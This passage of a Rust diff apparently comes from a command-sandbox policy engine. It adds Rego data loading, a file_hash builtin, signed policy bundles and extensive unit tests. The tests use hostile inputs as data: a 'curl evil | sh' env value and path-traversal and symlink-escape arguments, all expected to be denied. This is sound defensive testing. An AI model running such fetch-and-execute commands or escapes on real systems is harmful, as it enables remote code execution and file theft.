+        _ => regorus::Value::from_yaml_str(source)?,
+    };
+    if document.as_object().is_err() {
+        anyhow::bail!("a data document must be an object");
+    }
+    let relative_dir = file
+        .parent()
+        .and_then(|dir| dir.strip_prefix(policy_dir).ok())
+        .unwrap_or(Path::new(""));
+    let components: Vec<String> = relative_dir
+        .components()
+        .map(|component| component.as_os_str().to_string_lossy().into_owned())
+        .collect();
+    for component in components.into_iter().rev() {
+        let mut parent = regorus::Value::new_object();
+        parent
+            .as_object_mut()?
+            .insert(regorus::Value::from(component), document);
+        document = parent;
+    }
+    Ok(document)
+}
+
+fn new_rego_engine(hasher: &Arc<dyn FileHasher>) -> RegoEngine {
+    let mut engine = RegoEngine::new();
+    let hasher = Arc::clone(hasher);
+    engine
+        .add_extension(
+            FILE_HASH_BUILTIN.to_string(),
+            2,
+            Box::new(move |args| file_hash_builtin(hasher.as_ref(), args)),
+        )
+        .expect("file_hash registers on a fresh engine");
+    engine
+}
+
+fn file_hash_builtin(
+    hasher: &dyn FileHasher,
+    args: Vec<regorus::Value>,
+) -> anyhow::Result<regorus::Value> {
+    let [regorus::Value::String(algorithm), regorus::Value::String(path)] = args.as_slice() else {
+        anyhow::bail!("{FILE_HASH_BUILTIN} expects (algorithm, path) strings");
+    };
+    let algorithm = HashAlgorithm::parse(algorithm).ok_or_else(|| {
+        anyhow::anyhow!("{FILE_HASH_BUILTIN}: unsupported algorithm '{algorithm}' (expected sha256, sha512 or blake3)")
+    })?;
+    let digest = hasher
+        .hash_hex(Path::new(path.as_ref()), algorithm)
+        .map_err(|error| anyhow::anyhow!("{FILE_HASH_BUILTIN}: failed hashing '{path}': {error}"))?;
+    Ok(regorus::Value::from(digest))
+}
+
+/// Collects `.rego` modules and `.json`/`.yaml`/`.yml` data documents, leaving out the
+/// `*_test.json` cases `mcp-run policy test` reads.
+fn collect_policy_files(
+    dir: &Path,
+    modules: &mut Vec<PathBuf>,
+    data: &mut Vec<PathBuf>,
+) -> Result<(), std::io::Error> {
     for entry in std::fs::read_dir(dir)? {
         let entry = entry?;
         let path = entry.path();
 
         if path.is_dir() {
-            collect_rego_files(&path, out)?;
+            collect_policy_files(&path, modules, data)?;
             continue;
         }
 
-        if path.extension().and_then(|ext| ext.to_str()) == Some("rego") {
-            out.push(path);
+        let is_test_cases = path
+            .file_name()
+            .and_then(|name| name.to_str())
+            .is_some_and(|name| name.ends_with(POLICY_TEST_SUFFIX));
+        match path.extension().and_then(|ext| ext.to_str()) {
+            Some("rego") => modules.push(path),
+            Some("json" | "yaml" | "yml") if !is_test_cases => data.push(path),
+            _ => {}
         }
     }
 
@@ -368,6 +2000,7 @@ mod tests {
     use std::collections::BTreeMap;
 
     use super::*;
+    use proptest::prelude::*;
     use tempfile::tempdir;
 
     fn write_rego_bundle(dir: &Path, command: &str) {
@@ -423,6 +2056,50 @@ allow if {
         assert!(matches!(err, ValidationError::PolicyUnavailable { .. }));
     }
 
+    #[test]
+    fn both_mode_requires_rego_and_legacy_json_to_allow() {
+        let dir = tempdir().expect("temp rego dir");
+        std::fs::write(
+            dir.path().join("main.rego"),
+            "package sandbox.main\n\ndefault allow = false\n\nallow if { input.command in {\"echo\", \"date\"} }\n",
+        )
+        .expect("write main rego");
+        let legacy = dir.path().join("legacy").join("sandbox_commands.json");
+        std::fs::create_dir_all(legacy.parent().unwrap()).expect("create legacy dir");
+        std::fs::write(
+            &legacy,
+            r#"[{"command": "echo", "args": [{"type": "regex", "value": "^hi"}]}, {"command": "ls"}]"#,
+        )
+        .expect("write legacy policy");
+
+        let engine =
+            PolicyEngine::from_sources_with_legacy(Some(dir.path().to_path_buf()), legacy.clone());
+        assert_eq!(engine.mode(), PolicyMode::Both);
+        let check = |command: &str, args: &[&str]| {
+            let args: Vec<String> = args.iter().map(|arg| arg.to_string()).collect();
+            engine
+                .validate_invocation(command, "/usr/bin/tool", "00", &args, &BTreeMap::new())
+                .map_err(|error| error.to_string())
+        };
+        assert_eq!(check("echo", &["hi there"]), Ok(()));
+        assert_eq!(
+            check("echo", &["bye"]),
+            Err("Command not allowed by the legacy JSON policy: echo".to_string())
+        );
+        assert_eq!(
+            check("ls", &[]),
+            Err("Command not allowed by the Rego policy: ls".to_string())
+        );
+        assert_eq!(
+            check("cat", &[]),
+            Err("Command not allowed by the Rego and legacy JSON policy: cat".to_string())
+        );
+
+        std::fs::write(&legacy, "{}").expect("break legacy policy");
+        engine.reload();
+        assert_eq!(engine.mode(), PolicyMode::DenyAll);
+    }
+
     #[test]
     fn rego_input_contains_command_path_args_env_hash() {
         let modules = [
@@ -481,6 +2158,88 @@ allow if {
         assert!(err.to_string().contains("Command not allowed"));
     }
 
+    #[test]
+    fn signed_sources_load_only_a_bundle_matching_its_signature() {
+        use aws_lc_rs::signature::{Ed25519KeyPair, KeyPair};
+        use base64::Engine;
+
+        let dir = tempdir().expect("temp rego dir");
+        write_rego_bundle(dir.path(), "echo");
+        let pair = Ed25519KeyPair::from_seed_unchecked(&[3; 32]).expect("key pair");
+        let key = PolicySigningKey::parse(
+            &base64::engine::general_purpose::STANDARD.encode(pair.public_key()),
+        )
+        .expect("key");
+
+        let unsigned =
+            PolicyEngine::from_signed_sources(Some(dir.path().to_path_buf()), None, key.clone());
+        assert_eq!(unsigned.mode(), PolicyMode::DenyAll);
+
+        let manifest = crate::signing::bundle_manifest(dir.path()).expect("manifest");
+        std::fs::write(
+            dir.path().join(crate::signing::BUNDLE_SIGNATURE_FILE),
+            pair.sign(manifest.as_bytes()).as_ref(),
+        )
+        .expect("write signature");
+        let engine = PolicyEngine::from_signed_sources(Some(dir.path().to_path_buf()), None, key);
+        assert_eq!(engine.mode(), PolicyMode::Rego);
+        assert!(engine
+            .validate_invocation(
+                "echo",
+                "/usr/bin/echo",
+                "0000000000000000000000000000000000000000000000000000000000000000",
+                &[],
+                &BTreeMap::new(),
+            )
+            .is_ok());
+
+        std::fs::write(dir.path().join("command.rego"), "package sandbox.echo
+allow := true
+")
+            .expect("tamper with rego");
+        engine.reload();
+        assert_eq!(engine.mode(), PolicyMode::DenyAll);
+    }
+
+    #[test]
+    fn signed_sources_load_the_legacy_file_only_from_the_bundle() {
+        use aws_lc_rs::signature::{Ed25519KeyPair, KeyPair};
+        use base64::Engine;
+
+        let dir = tempdir().expect("temp rego dir");
+        write_rego_bundle(dir.path(), "echo");
+        let legacy = dir.path().join("legacy").join("sandbox_commands.json");
+        std::fs::create_dir_all(legacy.parent().unwrap()).expect("create legacy dir");
+        std::fs::write(&legacy, r#"[{"command": "echo"}]"#).expect("write legacy policy");
+        let pair = Ed25519KeyPair::from_seed_unchecked(&[3; 32]).expect("key pair");
+        let key = PolicySigningKey::parse(
+            &base64::engine::general_purpose::STANDARD.encode(pair.public_key()),
+        )
+        .expect("key");
+        let manifest = crate::signing::bundle_manifest(dir.path()).expect("manifest");
+        std::fs::write(
+            dir.path().join(crate::signing::BUNDLE_SIGNATURE_FILE),
+            pair.sign(manifest.as_bytes()).as_ref(),
+        )
+        .expect("write signature");
+
+        let policy_dir = Some(dir.path().to_path_buf());
+        let engine =
+            PolicyEngine::from_signed_sources(policy_dir.clone(), Some(legacy.clone()), key.clone());
+        assert_eq!(engine.mode(), PolicyMode::Both);
+
+        let outside = tempdir().expect("temp legacy dir");
+        let unsigned = outside.path().join("sandbox_commands.json");
+        std::fs::copy(&legacy, &unsigned).expect("copy legacy policy");
+        let outside_engine = PolicyEngine::from_signed_sources(policy_dir, Some(unsigned), key);
+        assert_eq!(outside_engine.mode(), PolicyMode::DenyAll);
+
+        std::fs::write(&legacy, r#"[{"command": "echo"}, {"command": "sh"}]"#)
+            .expect("tamper with legacy policy");
+        engine.reload();
+        assert_eq!(engine.mode(), PolicyMode::DenyAll);
+    }
+
     #[test]
     fn reload_transitions_invalid_to_deny_all_and_recovers() {
         let dir = tempdir().expect("temp rego dir");
@@ -533,9 +2292,986 @@ allow if {
             .is_ok());
     }
 
+    #[test]
+    fn data_documents_are_loaded_under_their_directory_and_reloaded() {
+        let dir = tempdir().expect("temp rego dir");
+        write_rego_bundle(dir.path(), "echo");
+        std::fs::write(
+            dir.path().join("command.rego"),
+            "package sandbox.echo\n\nallow if {\n  input.args[0] in data.lists.words\n}\n",
+        )
+        .expect("write command rego");
+        std::fs::create_dir(dir.path().join("lists")).expect("mkdir");
+        std::fs::write(dir.path().join("lists/words.yaml"), "words:\n  - hello\n")
+            .expect("write data");
+        // Test cases are not data, even though they are JSON.
+        std::fs::write(dir.path().join("echo_test.json"), "[]").expect("write cases");
+        let hash = "0000000000000000000000000000000000000000000000000000000000000000";
+        let allowed = |engine: &PolicyEngine, word: &str| {
+            let args = [word.to_string()];
+            engine
+                .validate_invocation("echo", "/usr/bin/echo", hash, &args, &BTreeMap::new())
+                .is_ok()
+        };
+
+        let engine = PolicyEngine::from_sources(Some(dir.path().to_path_buf()));
+        assert_eq!(engine.mode(), PolicyMode::Rego);
+        assert!(allowed(&engine, "hello"));
+        assert!(!allowed(&engine, "world"));
+
+        std::fs::write(dir.path().join("lists/words.yaml"), "words: [hello, world]\n")
+            .expect("rewrite data");
+        engine.reload();
+        assert!(allowed(&engine, "world"));
+
+        std::fs::write(dir.path().join("extra.json"), "[1, 2]").expect("write bad data");
+        engine.reload();
+        assert_eq!(engine.mode(), PolicyMode::DenyAll);
+    }
+
+    #[test]
+    fn output_limits_rule_is_returned_with_allow() {
+        let hash = "0000000000000000000000000000000000000000000000000000000000000000";
+        let engine = PolicyEngine::from_rego_for_tests(&[(
+            "main.rego",
+            "package sandbox.main\n\nallow := true\n\noutput_limits := {\"stdout\": 10} if input.command == \"curl\"\n",
+        )]);
+
+        let decision = engine
+            .evaluate_invocation("curl", "/usr/bin/curl", hash, &[], &BTreeMap::new())
+            .expect("curl allowed");
+        assert_eq!(
+            decision.output_limits,
+            OutputLimitOverrides {
+                stdout: Some(10),
+                stderr: None,
+            }
+        );
+        let decision = engine
+            .evaluate_invocation("echo", "/usr/bin/echo", hash, &[], &BTreeMap::new())
+            .expect("echo allowed");
+        assert_eq!(decision.output_limits, OutputLimitOverrides::default());
+
+        let invalid = PolicyEngine::from_rego_for_tests(&[(
+            "main.rego",
+            "package sandbox.main\n\nallow := true\n\noutput_limits := {\"stdin\": 1}\n",
+        )]);
+        assert!(matches!(
+            invalid.evaluate_invocation("echo", "/usr/bin/echo", hash, &[], &BTreeMap::new()),
+            Err(ValidationError::PolicyEvaluationFailed { .. })
+        ));
+    }
+
+    #[test]
+    fn redact_rule_is_returned_with_allow() {
+        let hash = "0000000000000000000000000000000000000000000000000000000000000000";
+        let engine = PolicyEngine::from_rego_for_tests(&[(
+            "main.rego",
+            "package sandbox.main\n\nallow := true\n\nredact := [\"npm_[A-Za-z0-9]{36}\", \"gho_\\\\w+\"] if input.command == \"npm\"\n",
+        )]);
+        let decision = engine
+            .evaluate_invocation("npm", "/usr/bin/npm", hash, &[], &BTreeMap::new())
+            .expect("allowed");
+        assert_eq!(decision.redact.patterns(), ["npm_[A-Za-z0-9]{36}", "gho_\\w+"]);
+
+        let invalid = PolicyEngine::from_rego_for_tests(&[(
+            "main.rego",
+            "package sandbox.main\n\nallow := true\n\nredact := \"(unclosed\"\n",
+        )]);
+        assert!(matches!(
+            invalid.evaluate_invocation("npm", "/usr/bin/npm", hash, &[], &BTreeMap::new()),
+            Err(ValidationError::PolicyEvaluationFailed { .. })
+        ));
+    }
+
+    #[test]
+    fn denial_detail_controls_what_clients_are_told() {
+        let cwd = ValidationError::CwdNotAllowed {
+            command: "git".to_string(),
+            cwd: "/etc".to_string(),
+        };
+        let by_engine = ValidationError::CommandNotAllowedBy {
+            engine: "legacy",
+            command: "git".to_string(),
+        };
+        let fetch = ValidationError::FetchNotAllowed("https://example.com/a".to_string());
+        let limit = ValidationError::TooManyArgs {
+            command: "git".to_string(),
+            count: 5,
+            limit: 4,
+        };
+
+        assert_eq!(
+            cwd.client_message(DenialDetail::Full),
+            "Working directory not allowed for 'git': /etc"
+        );
+        assert_eq!(
+            cwd.client_message(DenialDetail::Summary),
+            "Working directory not allowed for 'git'"
+        );
+        assert_eq!(
+            by_engine.client_message(DenialDetail::Summary),
+            "Command not allowed: git"
+        );
+        assert_eq!(limit.client_message(DenialDetail::Summary), limit.to_string());
+        assert_eq!(cwd.client_message(DenialDetail::Minimal), "Command not allowed");
+        assert_eq!(fetch.client_message(DenialDetail::Minimal), "Download not allowed");
+
+        let engine = PolicyEngine::from_rego_for_tests(&[(
+            "main.rego",
+            "package sandbox.main\n\nallow := false\n",
+        )])
+        .with_denial_detail(DenialDetail::Minimal);
+        assert_eq!(engine.denial_message(&cwd), "Command not allowed");
+    }
+
+    #[test]
+    fn inject_env_rule_is_returned_with_allow() {
+        let hash = "0000000000000000000000000000000000000000000000000000000000000000";
+        let engine = PolicyEngine::from_rego_for_tests(&[(
+            "main.rego",
+            "package sandbox.main\n\nallow := true\n\ninject_env := {\"NPM_CONFIG_REGISTRY\": \"https://npm.internal\"} if input.command == \"npm\"\n",
+        )]);
+
+        let decision = engine
+            .evaluate_invocation("npm", "/usr/bin/npm", hash, &[], &BTreeMap::new())
+            .expect("npm allowed");
+        assert_eq!(
+            decision.inject_env,
+            BTreeMap::from([(
+                "NPM_CONFIG_REGISTRY".to_string(),
+                "https://npm.internal".to_string()
+            )])
+        );
+        let decision = engine
+            .evaluate_invocation("echo", "/usr/bin/echo", hash, &[], &BTreeMap::new())
+            .expect("echo allowed");
+        assert!(decision.inject_env.is_empty());
+
+        for rule in ["{\"A=B\": \"x\"}", "{\"A\": 1}", "[\"A\"]"] {
+            let invalid = PolicyEngine::from_rego_for_tests(&[(
+                "main.rego",
+                &format!("package sandbox.main\n\nallow := true\n\ninject_env := {rule}\n"),
+            )]);
+            assert!(
+                matches!(
+                    invalid.evaluate_invocation("echo", "/usr/bin/echo", hash, &[], &BTreeMap::new()),
+                    Err(ValidationError::PolicyEvaluationFailed { .. })
+                ),
+                "{rule}"
+            );
+        }
+    }
+
+    #[test]
+    fn cleanup_rules_resolve_the_workspace() {
+        let engine = PolicyEngine::from_rego_for_tests(&[(
+            "main.rego",
+            "package sandbox.main\n\nallow := true\n\ncleanup := [{\"paths\": [\"{workspace}/.clones/*\", \"/tmp/build-*\"], \"olderThan\": \"7d\"}]\n",
+        )])
+        .with_workspace(PathBuf::from("/home/user/workspace"));
+        assert_eq!(
+            engine.cleanup_rules().expect("cleanup rules"),
+            vec![CleanupRule {
+                paths: vec![
+                    "/home/user/workspace/.clones/*".to_string(),
+                    "/tmp/build-*".to_string(),
+                ],
+                older_than: Duration::from_secs(7 * 86_400),
+            }]
+        );
+        assert_eq!(
+            PolicyEngine::from_rego_for_tests(&[("main.rego", "package sandbox.main\n\nallow := true\n")])
+                .cleanup_rules()
+                .expect("no cleanup rule"),
+            Vec::new()
+        );
+
+        for rule in [
+            "{\"paths\": \"{workspace}\", \"olderThan\": \"1d\"}",
+            "{\"paths\": \"/*\", \"olderThan\": \"1d\"}",
+            "{\"paths\": \"tmp/*\", \"olderThan\": \"1d\"}",
+            "{\"paths\": \"{workspace}/../x\", \"olderThan\": \"1d\"}",
+            "{\"paths\": \"/tmp/*\", \"olderThan\": \"0d\"}",
+            "{\"paths\": \"/tmp/*\", \"olderThan\": \"1w\"}",
+        ] {
+            let invalid = PolicyEngine::from_rego_for_tests(&[(
+                "main.rego",
+                &format!("package sandbox.main\n\nallow := true\n\ncleanup := {rule}\n"),
+            )])
+            .with_workspace(PathBuf::from("/home/user/workspace"));
+            assert!(invalid.cleanup_rules().is_err(), "{rule}");
+        }
+    }
+
+    #[test]
+    fn domains_rule_is_returned_with_allow() {
+        let hash = "0000000000000000000000000000000000000000000000000000000000000000";
+        let engine = PolicyEngine::from_rego_for_tests(&[(
+            "main.rego",
+            "package sandbox.main\n\nallow := true\n\ndomains := [\"Registry.npmjs.org\", \".github.com\"] if input.command == \"npm\"\n",
+        )]);
+
+        let decision = engine
+            .evaluate_invocation("npm", "/usr/bin/npm", hash, &[], &BTreeMap::new())
+            .expect("npm allowed");
+        assert_eq!(
+            decision.domains,
+            BTreeSet::from([".github.com".to_string(), "registry.npmjs.org".to_string()])
+        );
+        let decision = engine
+            .evaluate_invocation("echo", "/usr/bin/echo", hash, &[], &BTreeMap::new())
+            .expect("echo allowed");
+        assert!(decision.domains.is_empty());
+
+        for rule in ["\"example.com\"", "[\"exa mple.com\"]", "[\"a..b\"]", "[\"all\\nx\"]", "[1]"] {
+            let invalid = PolicyEngine::from_rego_for_tests(&[(
+                "main.rego",
+                &format!("package sandbox.main\n\nallow := true\n\ndomains := {rule}\n"),
+            )]);
+            assert!(
+                matches!(
+                    invalid.evaluate_invocation("echo", "/usr/bin/echo", hash, &[], &BTreeMap::new()),
+                    Err(ValidationError::PolicyEvaluationFailed { .. })
+                ),
+                "{rule}"
+            );
+        }
+    }
+
+    #[test]
+    fn glob_match_builtin_is_available_to_policies() {
+        let hash = "0000000000000000000000000000000000000000000000000000000000000000";
+        let engine = PolicyEngine::from_rego_for_tests(&[(
+            "main.rego",
+            "package sandbox.main\n\ndefault allow = false\n\nallow if {\n  count(input.args) == 2\n  input.args[0] == \"-xzf\"\n  glob.match(\"*.tar.gz\", [\"/\"], input.args[1])\n}\n",
+        )]);
+        let check = |archive: &str| {
+            engine
+                .validate_invocation(
+                    "tar",
+                    "/usr/bin/tar",
+                    hash,
+                    &["-xzf".to_string(), archive.to_string()],
+                    &BTreeMap::new(),
+                )
+                .is_ok()
+        };
+
+        assert!(check("pkg-1.0.tar.gz"));
+        assert!(!check("pkg-1.0.zip"));
+        assert!(!check("../escape/pkg.tar.gz"));
+    }
+
+    #[test]
+    fn client_id_is_exposed_as_input_context() {
+        let hash = "0000000000000000000000000000000000000000000000000000000000000000";
+        let engine = PolicyEngine::from_rego_for_tests(&[(
+            "main.rego",
+            "package sandbox.main\n\ndefault allow = false\n\nallow if {\n  input.context.client_id == \"builder\"\n}\n",
+        )]);
+        let check = |client_id: Option<&str>| {
+            engine
+                .evaluate_invocation_in_context(
+                    "git",
+                    "/usr/bin/git",
+                    hash,
+                    &[],
+                    &BTreeMap::new(),
+                    &InvocationContext {
+                        client_id: client_id.map(str::to_string),
+                        cwd: None,
+                        canonical_cwd: None,
+                        hops: 0,
+                    },
+                )
+                .is_ok()
+        };
+
+        assert!(check(Some("builder")));
+        assert!(!check(Some("reviewer")));
+        assert!(!check(None));
+    }
+
+    #[test]
+    fn file_hash_builtin_pins_file_arguments() {
+        let dir = tempdir().expect("temp dir");
+        let model = dir.path().join("model.bin");
+        std::fs::write(&model, b"").expect("write model");
+        let other = dir.path().join("other.bin");
+        std::fs::write(&other, b"tampered").expect("write other");
+        let sha512_empty = "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e";
+        let engine = PolicyEngine::from_rego_for_tests(&[(
+            "main.rego",
+            &format!(
+                "package sandbox.main\n\ndefault allow = false\n\nallow if {{\n  file_hash(input.args[0], input.args[1]) == \"{sha512_empty}\"\n}}\n"
+            ),
+        )]);
+        let check = |algorithm: &str, path: &Path| {
+            engine.evaluate_invocation(
+                "llm",
+                "/usr/bin/llm",
+                "0000000000000000000000000000000000000000000000000000000000000000",
+                &[algorithm.to_string(), path.to_string_lossy().into_owned()],
+                &BTreeMap::new(),
+            )
+        };
+
+        assert!(check("sha512", &model).is_ok());
+        assert!(matches!(
+            check("sha512", &other),
+            Err(ValidationError::CommandNotAllowed(_))
+        ));
+        assert!(matches!(
+            check("md5", &model),
+            Err(ValidationError::PolicyEvaluationFailed { details, .. })
+                if details.contains("unsupported algorithm 'md5'")
+        ));
+        assert!(matches!(
+            check("sha512", &dir.path().join("missing.bin")),
+            Err(ValidationError::PolicyEvaluationFailed { .. })
+        ));
+    }
+
+    #[test]
+    fn env_keys_rule_marks_sensitive_keys() {
+        let hash = "0000000000000000000000000000000000000000000000000000000000000000";
+        let engine = PolicyEngine::from_rego_for_tests(&[(
+            "main.rego",
+            "package sandbox.main\n\nallow := true\n\nenv_keys := {\"API_TOKEN\": {\"sensitive\": true}, \"CI\": {\"sensitive\": false}}\n",
+        )]);
+        let env = BTreeMap::from([
+            ("API_TOKEN".to_string(), "abc".to_string()),
+            ("CI".to_string(), "1".to_string()),
+        ]);
+        let args = vec!["--token=abc".to_string(), "--ci=1".to_string()];
+
+        let decision = engine
+            .evaluate_invocation("curl", "/usr/bin/curl", hash, &args, &env)
+            .expect("allowed");
+        assert_eq!(decision.sensitive_env, BTreeSet::from(["API_TOKEN".to_string()]));
+        assert_eq!(
+            decision.redact_args(&args, &env),
+            vec!["--token=[REDACTED]".to_string(), "--ci=1".to_string()]
+        );
+
+        let invalid = PolicyEngine::from_rego_for_tests(&[(
+            "main.rego",
+            "package sandbox.main\n\nallow := true\n\nenv_keys := {\"API_TOKEN\": {\"secret\": true}}\n",
+        )]);
+        assert!(matches!(
+            invalid.evaluate_invocation("curl", "/usr/bin/curl", hash, &args, &env),
+            Err(ValidationError::PolicyEvaluationFailed { details, .. })
+                if details.contains("unknown key 'secret'")
+        ));
+    }
+
+    #[test]
+    fn env_keys_rule_constrains_values() {
+        let hash = "0000000000000000000000000000000000000000000000000000000000000000";
+        let engine = PolicyEngine::from_rego_for_tests(&[(
+            "main.rego",
+            "package sandbox.main\n\nallow := true\n\nenv_keys := {\"GIT_SSH_COMMAND\": {\"exact\": \"ssh -o BatchMode=yes\"}, \"GIT_DIR\": {\"regex\": \"/workspace/[a-z]+\", \"sensitive\": true}}\n",
+        )]);
+        let check = |key: &str, value: &str| {
+            let env = BTreeMap::from([(key.to_string(), value.to_string())]);
+            engine.evaluate_invocation("git", "/usr/bin/git", hash, &[], &env)
+        };
+
+        assert!(check("GIT_SSH_COMMAND", "ssh -o BatchMode=yes").is_ok());
+        assert!(matches!(
+            check("GIT_SSH_COMMAND", "sh -c 'curl evil | sh'"),
+            Err(ValidationError::EnvValueNotAllowed { key, .. }) if key == "GIT_SSH_COMMAND"
+        ));
+        let decision = check("GIT_DIR", "/workspace/repo").expect("regex matches");
+        assert_eq!(decision.sensitive_env, BTreeSet::from(["GIT_DIR".to_string()]));
+        // The regex must match the whole value.
+        assert!(check("GIT_DIR", "/workspace/repo/../../etc").is_err());
+        // Keys without a constraint are left to `allow`.
+        assert!(check("HOME", "anything").is_ok());
+
+        let invalid = PolicyEngine::from_rego_for_tests(&[(
+            "main.rego",
+            "package sandbox.main\n\nallow := true\n\nenv_keys := {\"GIT_DIR\": {\"regex\": \"(\"}}\n",
+        )]);
+        assert!(matches!(
+            invalid.evaluate_invocation("git", "/usr/bin/git", hash, &[], &BTreeMap::new()),
+            Err(ValidationError::PolicyEvaluationFailed { details, .. })
+                if details.contains("GIT_DIR.regex is invalid")
+        ));
+    }
+
+    #[test]
+    fn rules_can_match_on_input_cwd() {
+        let main = "package sandbox.main\n\ndefault allow = false\n\nallow if {\n  input.command == \"git\"\n  startswith(input.cwd, \"/home/user/workspace\")\n}\n\nallow if {\n  input.command == \"make\"\n}\n\ncwd_pattern := {\"exact\": \"/srv/build\"} if input.command == \"make\"\n";
+        let engine = PolicyEngine::from_rego_for_tests(&[("main.rego", main)]);
+        let evaluate = |command: &str, cwd: Option<&str>| {
+            engine.evaluate_invocation_in_context(
+                command,
+                "/usr/bin/tool",
+                "0000000000000000000000000000000000000000000000000000000000000000",
+                &[],
+                &BTreeMap::new(),
+                &InvocationContext {
+                    client_id: None,
+                    cwd: cwd.map(PathBuf::from),
+                    canonical_cwd: None,
+                    hops: 0,
+                },
+            )
+        };
+
+        assert!(evaluate("git", Some("/home/user/workspace/repo")).is_ok());
+        assert!(matches!(
+            evaluate("git", Some("/etc")),
+            Err(ValidationError::CommandNotAllowed(_))
+        ));
+        // Without a cwd, `input.cwd` is undefined and the rule cannot match.
+        assert!(evaluate("git", None).is_err());
+
+        let decision = evaluate("make", Some("/srv/build")).expect("allowed");
+        assert_eq!(
+            decision.cwd_patterns,
+            vec![CwdPattern::Exact(PathBuf::from("/srv/build"))]
+        );
+        assert!(decision.check_cwd("make", Path::new("/srv/build/./")).is_ok());
+        assert!(decision.check_cwd("make", Path::new("/srv/build/sub")).is_err());
+    }
+
+    #[test]
+    fn rules_see_the_canonical_cwd() {
+        let main = "package sandbox.main\n\ndefault allow = false\n\nallow if {\n  startswith(input.canonical_cwd, \"/srv/build\")\n}\n";
+        let engine = PolicyEngine::from_rego_for_tests(&[("main.rego", main)]);
+        let evaluate = |cwd: &str, canonical_cwd: Option<&str>| {
+            engine.evaluate_invocation_in_context(
+                "make",
+                "/usr/bin/make",
+                "0000000000000000000000000000000000000000000000000000000000000000",
+                &[],
+                &BTreeMap::new(),
+                &InvocationContext {
+                    client_id: None,
+                    cwd: Some(PathBuf::from(cwd)),
+                    canonical_cwd: canonical_cwd.map(PathBuf::from),
+                    hops: 0,
+                },
+            )
+        };
+
+        assert!(evaluate("/home/user/workspace/build", Some("/srv/build/out")).is_ok());
+        assert!(evaluate("/srv/build/link", Some("/etc")).is_err());
+        assert!(evaluate("/srv/build", None).is_err());
+    }
+
+    #[test]
+    fn cwd_pattern_resolves_workspace_and_constrains_cwd() {
+        let main = "package sandbox.main\n\ndefault allow = false\n\nallow if {\n  input.command == \"git\"\n}\n\ncwd_pattern := [\"{workspace}\", {\"regex\": \"{workspace}-[0-9]+\"}]\n";
+        let evaluate = |engine: &PolicyEngine| {
+            engine.evaluate_invocation(
+                "git",
+                "/usr/bin/git",
+                "0000000000000000000000000000000000000000000000000000000000000000",
+                &[],
+                &BTreeMap::new(),
+            )
+        };
+
+        let engine = PolicyEngine::from_rego_for_tests(&[("main.rego", main)])
+            .with_workspace(PathBuf::from("/home/user/work.space"));
+        let decision = evaluate(&engine).expect("allowed");
+        assert_eq!(
+            decision.cwd_patterns,
+            vec![
+                CwdPattern::Prefix(PathBuf::from("/home/user/work.space")),
+                CwdPattern::Regex("/home/user/work\\.space-[0-9]+".to_string()),
+            ]
+        );
+        for allowed in [
+            "/home/user/work.space",
+            "/home/user/work.space/pkg/./src",
+            "/home/user/work.space-2",
+        ] {
+            assert!(decision.check_cwd("git", Path::new(allowed)).is_ok(), "{allowed}");
+        }
+        for denied in [
+            "/home/user/work.space/../.ssh",
+            "/home/user/work.spaces",
+            "/home/user/workXspace-2",
+            "/home/user/work.space-2/sub",
+        ] {
+            assert!(
+                matches!(
+                    decision.check_cwd("git", Path::new(denied)),
+                    Err(ValidationError::CwdNotAllowed { .. })
+                ),
+                "{denied}"
+            );
+        }
+
+        let without_workspace = PolicyEngine::from_rego_for_tests(&[("main.rego", main)]);
+        assert!(matches!(
+            evaluate(&without_workspace),
+            Err(ValidationError::PolicyEvaluationFailed { details, .. })
+                if details.contains("no workspace is configured")
+        ));
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn path_args_keep_file_arguments_inside_their_root() {
+        let dir = tempdir().expect("tempdir");
+        let workspace = dir.path().join("ws");
+        std::fs::create_dir_all(workspace.join("src")).expect("mkdir");
+        std::fs::write(workspace.join("src/main.rs"), "").expect("write");
+        std::fs::write(dir.path().join("secret"), "").expect("write secret");
+        std::os::unix::fs::symlink(dir.path().join("secret"), workspace.join("link"))
+            .expect("symlink");
+        std::os::unix::fs::symlink(dir.path().join("created"), workspace.join("dangling"))
+            .expect("dangling symlink");
+        std::os::unix::fs::symlink("dangling", workspace.join("chained")).expect("symlink");
+        std::os::unix::fs::symlink("src/new-file", workspace.join("inside")).expect("symlink");
+
+        let main = "package sandbox.main\n\ndefault allow = false\n\nallow if {\n  input.command == \"cat\"\n}\n\npath_args := {\"root\": \"{workspace}\", \"position\": 0, \"required\": true}\n";
+        let engine = PolicyEngine::from_rego_for_tests(&[("main.rego", main)])
+            .with_workspace(workspace.clone());
+        let authorize = |args: &[&str], cwd: &Path| {
+            let args: Vec<String> = args.iter().map(|arg| arg.to_string()).collect();
+            engine.authorize_invocation(
+                "cat",
+                "/usr/bin/cat",
+                "unused",
+                &args,
+                &BTreeMap::new(),
+                &InvocationContext {
+                    client_id: None,
+                    cwd: Some(cwd.to_path_buf()),
+                    canonical_cwd: None,
+                    hops: 0,
+                },
+            )
+        };
+
+        for allowed in ["src/main.rs", "./src/../src/main.rs", "new-file", "inside"] {
+            assert!(authorize(&[allowed], &workspace).is_ok(), "{allowed}");
+        }
+        assert!(authorize(&["main.rs"], &workspace.join("src")).is_ok());
+        let secret = dir.path().join("secret");
+        for denied in [
+            "../secret",
+            "link",
+            "dangling",
+            "chained",
+            secret.to_str().unwrap(),
+            "missing/new-file",
+        ] {
+            assert!(
+                matches!(
+                    authorize(&[denied], &workspace),
+                    Err(ValidationError::PathArgNotAllowed { .. })
+                ),
+                "{denied}"
+            );
+        }
+        assert!(matches!(
+            authorize(&[], &workspace),
+            Err(ValidationError::PathArgNotAllowed { arg, .. }) if arg == "(missing argument 0)"
+        ));
+    }
+
+    #[test]
+    fn normalize_lexically_resolves_dot_segments() {
+        assert_eq!(normalize_lexically(Path::new("/a/./b/../c")), PathBuf::from("/a/c"));
+        assert_eq!(normalize_lexically(Path::new("/../a")), PathBuf::from("/a"));
+        assert_eq!(normalize_lexically(Path::new("./a/../../b")), PathBuf::from("../b"));
+        assert_eq!(normalize_lexically(Path::new(".")), PathBuf::from("."));
+    }
+
     #[test]
     fn missing_policy_dir_is_deny_all() {
         let engine = PolicyEngine::from_sources(None);
         assert_eq!(engine.mode(), PolicyMode::DenyAll);
     }
+
+    #[derive(Debug)]
+    struct FixedClock(SystemTime);
+
+    impl Clock for FixedClock {
+        fn now(&self) -> SystemTime {
+            self.0
+        }
+    }
+
+    #[test]
